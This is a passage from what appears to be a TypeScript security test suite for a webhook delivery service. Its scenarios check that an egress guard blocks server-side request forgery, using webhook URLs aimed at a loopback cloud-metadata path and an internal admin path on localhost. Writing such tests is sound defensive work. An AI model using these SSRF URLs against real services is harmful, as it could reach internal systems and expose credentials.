              `msg_${deliveryId}`,
              JSON.stringify({ type: 'invoice.paid', timestamp: new Date().toISOString(), data: { id: randomUUID() } }),
            ]),
          ),
        );
        await deliverNow(worker, tenant.id, deliveryId);
        attempt = await withOwner((owner) => firstAttempt(owner, tenant.id, deliveryId));
      }
      const reached = listener.on(path).length > 0;
      return {
        succeeded: reached,
        observed: `POST /v1/webhook-endpoints answered ${res.status}${endpointId ? `; the next delivery ${reached ? `reached the service on 127.0.0.1 (answered ${attempt?.status_code})` : `failed (${attempt?.error})`}` : '; nothing stored, the service on 127.0.0.1 received nothing'}`,
        // The listener's port changes from run to run; the training report must not.
        exchanges: [
          exchange(
            { method: 'POST', url: '/v1/webhook-endpoints', headers: { authorization: 'Bearer <owner access token>', 'content-type': 'application/json' }, body: { ...body, url: 'http://127.0.0.1:<port>/latest/meta-data/…' } },
            { ...res, body: JSON.parse(JSON.stringify(res.body ?? null).replaceAll(`:${listener.port}/`, ':<port>/')) as unknown },
          ),
        ],
      };
    },
  }),

  scenario<WorkerWithListener, { tenant: TestTenant }>({
    control: 'SSRF-EGRESS',
    attack: 'a webhook URL naming a host that resolves to 127.0.0.1 makes the worker POST to an internal service',
    removal: 'SafeHttpClient is replaced by a plain HTTP client without destination checks',
    fixtures: tenantFixture('ks-ssrf'),
    // EGRESS_ALLOW_PRIVATE empty, as production requires.
    target: (intact) => workerWithListener({ env: { EGRESS_ALLOW_PRIVATE: '', WEBHOOK_RETRY_SCHEDULE_S: '0' }, ...(intact ? {} : { overrides: [{ token: SafeHttpClient, useClass: UnguardedHttpClient }] }) }),
    async run({ worker, listener }, { tenant }) {
      const path = `/internal/admin/${randomBytes(4).toString('hex')}`;
      // A host name passes the save-time check (its DNS can change); the connect-time check must hold.
      const url = listener.url(path, 'localhost');
      return withOwner(async (owner) => {
        const { deliveryId } = await insertEndpointWithDelivery(owner, tenant, url);
        await deliverNow(worker, tenant.id, deliveryId);
        const attempt = await firstAttempt(owner, tenant.id, deliveryId);
        const reached = listener.on(path).length > 0;
        return {
          succeeded: reached,
          observed: reached ? `the internal listener on 127.0.0.1 received the POST (attempt status ${attempt.status_code})` : `the attempt failed as ${attempt.error}; the internal listener received nothing`,
          exchanges: [
            {
              request: { method: 'POST', url: 'http://localhost:<internal port>/internal/admin/…', headers: { 'content-type': 'application/json' } },
              response: { status: attempt.status_code ?? 0, body: { attemptError: attempt.error, internalServiceReached: reached } },
            },
          ],
        };
      });
    },
  }),
];

